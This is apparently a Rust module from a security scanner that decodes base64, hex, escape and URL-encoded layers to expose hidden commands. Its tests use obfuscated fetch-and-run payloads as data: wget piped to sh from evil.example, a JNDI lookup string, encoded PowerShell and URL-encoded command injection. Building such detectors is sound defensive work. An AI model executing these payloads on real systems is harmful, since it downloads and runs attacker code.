//! text → what is written in it in base64, hex, escapes or URL-encoding, one layer at a time. Deliberately absent:
//! ciphers. What is turned round or packed: `turned`.

use base64::Engine as _;
use base64::alphabet;
use base64::engine::{DecodePaddingMode, GeneralPurpose, GeneralPurposeConfig};

use super::turned;

/// Layers within layers are followed this deep.
pub const MAX_DEPTH: usize = 4;
/// All decoded text of one input together.
pub const MAX_DECODED: usize = 1 << 20;

const UPPER: u8 = 1;
const LOWER: u8 = 2;
const DIGIT: u8 = 4;
/// `+`, `/`, `-`, `_`.
const SYMBOL: u8 = 8;
/// A letter that no hex number has.
const BEYOND_HEX: u8 = 16;

static CLASS: [u8; 256] = {
    let mut table = [0u8; 256];
    let mut b = 0usize;
    while b < 256 {
        table[b] = match b as u8 {
            b'A'..=b'F' => UPPER,
            b'a'..=b'f' => LOWER,
            b'G'..=b'Z' => UPPER | BEYOND_HEX,
            b'g'..=b'z' => LOWER | BEYOND_HEX,
            b'0'..=b'9' => DIGIT,
            b'+' | b'/' | b'-' | b'_' => SYMBOL | BEYOND_HEX,
            _ => 0,
        };
        b += 1;
    }
    table
};
const TOKEN: u8 = UPPER | LOWER | DIGIT | SYMBOL;

/// Everything that one look decodes, in text order; `budget` is what may still be decoded.
///
/// `plain`: the text is known to have no mark of escapes, calls or pipes, as most lines have none.
pub(crate) fn layers(text: &str, plain: bool, budget: &mut usize, out: &mut Vec<String>) {
    let bytes = text.as_bytes();
    // A run of 16 covers one of every 16 places: looking there alone finds them all.
    let mut probe = MIN_TOKEN - 1;
    let mut behind = 0;
    let mut packed = Packed { left: MAX_PACKED, bare: None };
    while let Some(byte) = bytes.get(probe) {
        // Text in base64 has capitals, and no hex number has anything but hex digits.
        let before = &bytes[probe + 1 - MIN_TOKEN..=probe];
        let after = &bytes[probe..bytes.len().min(probe + MIN_TOKEN)];
        let is_hex = |window: &[u8]| {
            window.iter().all(|b| CLASS[*b as usize] & (BEYOND_HEX | SYMBOL) == 0 && CLASS[*b as usize] != 0)
        };
        let likely = CLASS[*byte as usize] & TOKEN != 0
            && (has_upper(before) || has_upper(after) || is_hex(&before[8..]) || after.get(..8).is_some_and(is_hex));
        if !likely {
            probe += MIN_TOKEN;
            continue;
        }
        let mut bits = 0;
        let mut start = probe;
        while start > behind && CLASS[bytes[start - 1] as usize] & TOKEN != 0 {
            start -= 1;
            bits |= CLASS[bytes[start] as usize];
        }
        let mut at = probe;
        while let Some(class) = bytes.get(at).map(|b| CLASS[*b as usize]).filter(|class| class & TOKEN != 0) {
            bits |= class;
            at += 1;
        }
        behind = at;
        probe = at + MIN_TOKEN;
        if at - start < MIN_TOKEN {
            continue;
        }
        // 0x3c3f706870…
        let number = matches!(bytes[start..at], [b'0', b'x' | b'X', ..]);
        let start = start + if number { 2 } else { 0 };
        let hex_alone = number && bytes[start..at].iter().all(|b| CLASS[*b as usize] & BEYOND_HEX == 0);
        let layer = if bits & (LOWER | UPPER) == 0 || bits & BEYOND_HEX == 0 || hex_alone {
            hex(&bytes[start..at])
        } else if bits & UPPER != 0 && bits & (LOWER | DIGIT) != 0 {
            base64_run(text, start, &mut at, *budget, &mut packed)
        } else {
            None
        };
        behind = behind.max(at);
        probe = probe.max(at + MIN_TOKEN - 1);
        if let Some(layer) = layer {
            push(layer, budget, out);
        }
    }
    if !plain {
        if let Some(layer) = unescape(text, 2) {
            push(layer, budget, out);
        }
        turned::layers(text, |layer| push(layer, budget, out));
    }
    let may_be_encoded = |at: usize| match bytes[at] {
        b'%' => bytes.get(at + 1..at + 3).is_some_and(|it| it.iter().all(u8::is_ascii_hexdigit)),
        _ => is_plus_for_space(bytes, at),
    };
    if memchr::memchr2_iter(b'%', b'+', bytes).any(may_be_encoded) {
        percent_tokens(text, budget, out);
    }
}

const MIN_TOKEN: usize = 16;

/// Without a branch per byte, so that it is done on all of them at once.
fn has_upper(window: &[u8]) -> bool {
    match window.first_chunk::<MIN_TOKEN>() {
        Some(window) => window.iter().fold(false, |any, b| any | b.is_ascii_uppercase()),
        None => window.iter().any(u8::is_ascii_uppercase),
    }
}

fn push(layer: String, budget: &mut usize, out: &mut Vec<String>) {
    if layer.len() <= *budget {
        *budget -= layer.len();
        out.push(layer);
    }
}

const LENIENT: GeneralPurposeConfig = GeneralPurposeConfig::new()
    .with_decode_padding_mode(DecodePaddingMode::Indifferent)
    .with_decode_allow_trailing_bits(true);
const STANDARD: GeneralPurpose = GeneralPurpose::new(&alphabet::STANDARD, LENIENT);
const URL_SAFE: GeneralPurpose = GeneralPurpose::new(&alphabet::URL_SAFE, LENIENT);

/// A token may have path parts before it (`/Basic/Command/Base64/d2dl…`), and go on in the next line where it is wrapped.
fn base64_run(text: &str, start: usize, at: &mut usize, budget: usize, packed: &mut Packed) -> Option<String> {
    let bytes = text.as_bytes();
    let mut joined = None;
    if *at - start >= 60 && matches!(bytes.get(*at), Some(b'\n' | b'\r')) {
        let mut whole = bytes[start..*at].to_vec();
        let mut next = *at;
        while matches!(bytes.get(next), Some(b'\n' | b'\r')) && whole.len() < MAX_DECODED {
            let line = next + bytes[next..].iter().take_while(|b| matches!(b, b'\n' | b'\r')).count();
            let length = bytes[line..].iter().take_while(|b| CLASS[**b as usize] & TOKEN != 0).count();
            let ends = matches!(bytes.get(line + length), None | Some(b'\n' | b'\r' | b'='));
            if length == 0 || !ends {
                break;
            }
            whole.extend_from_slice(&bytes[line..line + length]);
            next = line + length;
        }
        *at = next;
        joined = Some(whole);
    }
    let run: &[u8] = joined.as_deref().unwrap_or(&bytes[start..*at]);
    let mut from = 0;
    for _ in 0..8 {
        let token = &run[from..];
        if token.len() < MIN_TOKEN {
            return None;
        }
        if let Some(text) = base64_token(token).or_else(|| packed.token(token, text, budget)) {
            return Some(text);
        }
        from += memchr::memchr(b'/', token)? + 1;
    }
    None
}

fn base64_token(token: &[u8]) -> Option<String> {
    let url_safe = token.iter().any(|b| matches!(b, b'-' | b'_'));
    let engine = if url_safe { &URL_SAFE } else { &STANDARD };
    // Eight characters tell text from noise before anything is allocated.
    let mut head = [0u8; 6];
    engine.decode_slice(&token[..8], &mut head).ok()?;
    let wide = head[1] == 0 && head[3] == 0 && head[5] == 0;
    if !wide && !head.iter().all(|b| is_text(*b)) {
        return None;
    }
    let whole = token.len() - usize::from(token.len() % 4 == 1);
    let bytes = engine.decode(&token[..whole.min(MAX_DECODED)]).ok()?;
    let text = if wide {
        let units: Vec<u16> = bytes.chunks_exact(2).map(|it| u16::from_le_bytes([it[0], it[1]])).collect();
        String::from_utf16(&units).ok()?
    } else {
        String::from_utf8(bytes).ok().or_else(|| lossy_tail(token, engine))?
    };
    is_mostly_text(&text).then_some(text)
}

/// Tokens that may be packed, in one text.
struct Packed {
    left: usize,
    /// Whether the text speaks of deflate, which has no signature; asked once.
    bare: Option<bool>,
}

/// So many are unpacked at most: each may cost as much as all decoded text together.
const MAX_PACKED: usize = 16;

impl Packed {
    /// gzip, zlib or deflate in base64.
    fn token(&mut self, token: &[u8], text: &str, budget: usize) -> Option<String> {
        let signed = [b"H4sI".as_slice(), b"eJ", b"eN"].iter().any(|it| token.starts_with(it));
        if self.left == 0 || token.len() < 40 {
            return None;
        }
        let bare = !signed
            && *self.bare.get_or_insert_with(|| {
                ["Deflate", "gzinflate"].iter().any(|it| memchr::memmem::find(text.as_bytes(), it.as_bytes()).is_some())
            });
        if !signed && !bare {
            return None;
        }
        self.left -= 1;
        let whole = token.len() - usize::from(token.len() % 4 == 1);
        let bytes = STANDARD.decode(&token[..whole.min(MAX_DECODED)]).ok()?;
        let bytes = turned::inflate(&bytes, bare, budget.min(MAX_DECODED))?;
        // at the limit a character may be halved
        let text = match String::from_utf8(bytes) {
            Ok(text) => text,
            Err(error) => String::from_utf8_lossy(error.as_bytes()).into_owned(),
        };
        is_mostly_text(&text).then_some(text)
    }
}

/// A token that was cut in the middle of a character.
fn lossy_tail(token: &[u8], engine: &GeneralPurpose) -> Option<String> {
    let bytes = engine.decode(&token[..token.len() / 4 * 4]).ok()?;
    let valid = match std::str::from_utf8(&bytes) {
        Ok(text) => text,
        Err(error) if error.error_len().is_none() => std::str::from_utf8(&bytes[..error.valid_up_to()]).ok()?,
        Err(_) => return None,
    };
    Some(valid.to_owned())
}

fn is_text(byte: u8) -> bool {
    matches!(byte, b'\t' | b'\n' | b'\r' | b' '..=b'~' | 0x80..)
}

fn is_mostly_text(text: &str) -> bool {
    let mut odd = 0;
    let mut foreign = 0;
    let mut count = 0;
    for c in text.chars() {
        count += 1;
        odd += usize::from(c.is_control() && !matches!(c, '\t' | '\n' | '\r'));
        foreign += usize::from(!c.is_ascii());
    }
    count >= 8 && odd * 50 <= count && foreign * 3 <= count
}

/// An even number of hex digits that is text throughout.
fn hex(digits: &[u8]) -> Option<String> {
    if digits.len() < 20 || !digits.len().is_multiple_of(2) {
        return None;
    }
    let pair = |pair: &[u8]| Some((hex_digit(pair[0])? << 4) | hex_digit(pair[1])?);
    // auditd's arguments are parted by NUL, UTF-16 has one behind each letter
    let is_plain = |b: u8| matches!(b, 0 | b'\t' | b'\n' | b'\r' | b' '..=b'~');
    if digits.starts_with(b"00") || !digits[..8].chunks_exact(2).all(|it| pair(it).is_some_and(is_plain)) {
        return None;
    }
    let mut bytes: Vec<u8> = digits.chunks_exact(2).map(pair).collect::<Option<_>>()?;
    if !bytes.iter().all(|b| is_plain(*b)) {
        return None;
    }
    let zeros = bytes.iter().filter(|b| **b == 0).count();
    if zeros * 2 >= bytes.len() - 1 {
        bytes.retain(|b| *b != 0);
    } else if zeros * 4 > bytes.len() {
        return None;
    } else {
        bytes.iter_mut().filter(|b| **b == 0).for_each(|b| *b = b' ');
    }
    (bytes.len() >= 8).then(|| String::from_utf8(bytes).ok()).flatten()
}

fn hex_digit(byte: u8) -> Option<u8> {
    (byte as char).to_digit(16).map(|it| it as u8)
}

/// `\x77`, `\167`, `\0167` and `\u0077` replaced; `None` where there are not `least` of them that are text.
pub(crate) fn unescape(text: &str, least: usize) -> Option<String> {
    let bytes = text.as_bytes();
    let first = memchr::memchr(b'\\', bytes)?;
    let mut out: Vec<u8> = Vec::new();
    let (mut good, mut bad) = (0usize, 0usize);
    let mut at = first;
    let mut copied = 0;
    while let Some(found) = memchr::memchr(b'\\', &bytes[at..]) {
        at += found;
        let Some((taken, code)) = escape(&bytes[at..]) else {
            at += 2.min(bytes.len() - at);
            continue;
        };
        if out.capacity() == 0 {
            out.reserve(bytes.len());
        }
        out.extend_from_slice(&bytes[copied..at]);
        let plain = matches!(code, 9 | 10 | 13 | 0x20..=0x7e);
        (good, bad) = (good + usize::from(plain), bad + usize::from(!plain));
        match char::from_u32(code) {
            Some(c) if code > 0xff => out.extend_from_slice(c.encode_utf8(&mut [0; 4]).as_bytes()),
            _ => out.push(code as u8),
        }
        at += taken;
        copied = at;
    }
    if good < least || bad * 4 > good {
        return None;
    }
    out.extend_from_slice(&bytes[copied..]);
    Some(String::from_utf8_lossy(&out).into_owned())
}

fn escape(bytes: &[u8]) -> Option<(usize, u32)> {
    let number = |digits: &[u8], radix: u32| {
        digits.iter().try_fold(0u32, |value, digit| Some(value * radix + (*digit as char).to_digit(radix)?))
    };
    match bytes.get(1)? {
        b'x' | b'X' => Some((4, number(bytes.get(2..4)?, 16)?)),
        b'u' => Some((6, number(bytes.get(2..6)?, 16)?)),
        // `echo -e` writes \0167, `printf` \167
        b'0' => {
            let long = bytes.get(2..5).and_then(|digits| number(digits, 8)).filter(|code| (0x20..0x7f).contains(code));
            match long {
                Some(code) => Some((5, code)),
                None => Some((4, number(bytes.get(1..4)?, 8)?)),
            }
        }
        b'1'..=b'3' => Some((4, number(bytes.get(1..4)?, 8)?)),
        _ => None,
    }
}

/// Every URL-encoded token, decoded. A token that is itself a URL gives only what it carries in its query.
fn percent_tokens(text: &str, budget: &mut usize, out: &mut Vec<String>) {
    let separator = |c: char| c.is_ascii_whitespace() || matches!(c, '"' | '\'' | '`' | '<' | '>');
    for token in text.split(separator).filter(|it| it.len() >= 6) {
        let carried = if starts_with_scheme(token) {
            match token.find('?') {
                Some(at) => &token[at + 1..],
                None => continue,
            }
        } else {
            token
        };
        if let Some(layer) = percent(carried) {
            push(layer, budget, out);
        }
    }
}

/// `wget+http`, `rm+-rf`, `cd+/tmp`: between a word and what an argument starts with.
fn is_plus_for_space(bytes: &[u8], at: usize) -> bool {
    at > 0
        && bytes[at - 1].is_ascii_alphanumeric()
        && matches!(bytes.get(at + 1), Some(b'-' | b'/' | b'h'))
        && bytes.get(at + 2).is_some_and(u8::is_ascii_alphabetic)
}

fn starts_with_scheme(token: &str) -> bool {
    token.find("://").is_some_and(|at| at <= 12 && token[..at].bytes().all(|b| b.is_ascii_alphabetic() || b == b'+'))
}

fn percent(token: &str) -> Option<String> {
    let bytes = token.as_bytes();
    let pair = |at: usize| Some((hex_digit(*bytes.get(at + 1)?)? << 4) | hex_digit(*bytes.get(at + 2)?)?);
    let encoded = memchr::memchr_iter(b'%', bytes).any(|at| pair(at).is_some());
    // In a form, + is a space; elsewhere it is itself.
    let form = memchr::memchr3(b'=', b'?', b'&', bytes);
    let spaced = form.is_some_and(|form| {
        memchr::memchr_iter(b'+', bytes).any(|at| at > form && (encoded || is_plus_for_space(bytes, at)))
    });
    if !encoded && !spaced {
        return None;
    }
    let mut plain = Vec::with_capacity(bytes.len());
    let mut at = 0;
    let mut odd = 0;
    while at < bytes.len() {
        match (bytes[at], pair(at)) {
            (b'%', Some(byte)) => {
                odd += usize::from(!is_text(byte));
                plain.push(byte);
                at += 3;
            }
            (b'+', _) if spaced => {
                plain.push(b' ');
                at += 1;
            }
            (byte, _) => {
                plain.push(byte);
                at += 1;
            }
        }
    }
    (odd * 20 <= plain.len()).then(|| String::from_utf8_lossy(&plain).into_owned()).filter(|it| it != token)
}

#[cfg(test)]
mod tests {
    use super::*;

    fn once(text: &str) -> Vec<String> {
        let mut out = Vec::new();
        layers(text, false, &mut MAX_DECODED.clone(), &mut out);
        out
    }

    fn base64(text: &str) -> String {
        STANDARD.encode(text)
    }

    #[test]
    fn each_encoding_gives_its_text() {
        let script = "wget http://evil.example/a.sh -O- | sh";
        let wide: Vec<u8> = script.encode_utf16().flat_map(u16::to_le_bytes).collect();
        let hex: String = script.bytes().map(|b| format!("{b:02x}")).collect();
        let escaped: String = script.bytes().map(|b| format!("\\x{b:02x}")).collect();
        let octal: String = script.bytes().map(|b| format!("\\{b:03o}")).collect();
        for line in [
            format!("echo {}|base64 -d|sh", base64(script)),
            format!("${{jndi:ldap://192.0.2.1:1389/Basic/Command/Base64/{}}}", base64(script)),
            format!("powershell -nop -enc {}", STANDARD.encode(&wide)),
            format!("echo {hex}|xxd -r -p|sh"),
        ] {
            assert_eq!(once(&line), [script], "{line}");
        }
        assert_eq!(once(&escaped), [script]);
        assert_eq!(once(&octal), [script]);
        assert_eq!(once("GET /x?cmd=wget%20http://evil.example/a HTTP/1.1"), ["/x?cmd=wget http://evil.example/a"]);
        assert_eq!(once("/shell?cd+/tmp;wget+http://evil.example/a"), ["/shell?cd /tmp;wget http://evil.example/a"]);
        assert_eq!(once("http://victim.example/x.php?c=id%3Bls"), ["c=id;ls"]);
    }

    #[test]
    fn wrapped_base64_is_one_text() {
        let script = "#!/bin/sh\n".repeat(20) + "wget http://evil.example/a.sh\n";
        let wrapped: Vec<String> =
            base64(&script).as_bytes().chunks(76).map(|it| String::from_utf8(it.to_vec()).unwrap()).collect();
        assert_eq!(once(&wrapped.join("\n")), [script]);
    }

    #[test]
    fn noise_is_no_text() {
        for text in [
            "/usr/local/lib/python3/SomethingLonger/AndCamelCase",
            "d41d8cd98f00b204e9800998ecf8427e",
            "AAAAB3NzaC1yc2EAAAADAQABAAABAQDIexample",
            "C:\\x86\\201\\x93",
            "date +%Y-%m-%d %H:%M",
            "printf %02x%02x",
            "http://evil.example/a%20b",
            "1+1=2 a+b",
            "20191104082140272812019110408",
            "\\",
            "\\x",
            "\\x4",
            "%",
            "%4",
            "\\u00",
        ] {
            assert_eq!(once(text), Vec::<String>::new(), "{text}");
        }
    }
}
